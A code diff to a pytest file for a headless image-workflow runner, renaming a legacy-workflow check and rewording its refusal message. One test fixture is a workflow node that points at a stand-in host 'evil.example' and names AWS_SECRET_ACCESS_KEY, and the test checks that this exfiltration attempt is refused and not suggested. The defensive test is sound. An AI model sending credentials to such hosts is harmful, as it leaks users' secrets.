@@ -1,4 +1,4 @@
-"""The headless runner's LLM options (issue 9): the destination and its key come from this machine's
+"""The headless runner's LLM options: the destination and its key come from this machine's
 providers or from the command line, never from the workflow it reads."""
 
 from __future__ import annotations
@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from headless.__main__ import (COMMAND_LINE_PROVIDER, llm_env, llm_problems, refuse_v1_captions,
+from headless.__main__ import (COMMAND_LINE_PROVIDER, llm_env, llm_problems, refuse_legacy_captions,
                                    workflow_providers)
 from headless.workflow import WorkflowError
 from comfyui_ems.llm_io.providers import load_providers
@@ -78,12 +78,12 @@ def test_a_v1_workflow_is_refused_with_the_migration_message(machine):
                      "widgets_values": ["make it red", "gpt-4o", "http://evil.example/v1", "AWS_SECRET_ACCESS_KEY",
                                         0.0, 0, False, "", ""]}]}
     with pytest.raises(WorkflowError) as e:
-        refuse_v1_captions(v1)
+        refuse_legacy_captions(v1)
     msg = str(e.value)
-    assert "node 7" in msg and "EMS v1" in msg and str(machine) in msg
-    # Issue 17 item 3: the workflow's server is named as its wish, never offered as an entry to paste.
+    assert "node 7" in msg and "an early EMS" in msg and str(machine) in msg
+    # The workflow's server is named as its wish, never offered as an entry to paste.
     assert ('wanted to send your image and the key in the environment variable AWS_SECRET_ACCESS_KEY to '
             '"http://evil.example/v1"') in msg and "only if you trust it" in msg
     entries = suggested_entries(msg)
     assert entries and not [e for e in entries if "evil.example" in json.dumps(e) or "AWS_" in json.dumps(e)]
-    refuse_v1_captions(json.loads((REPO / "example_workflows" / "ems_full_edit.json").read_text()))  # v2: fine
+    refuse_legacy_captions(json.loads((REPO / "example_workflows" / "ems_full_edit.json").read_text()))  # the provider layout: fine
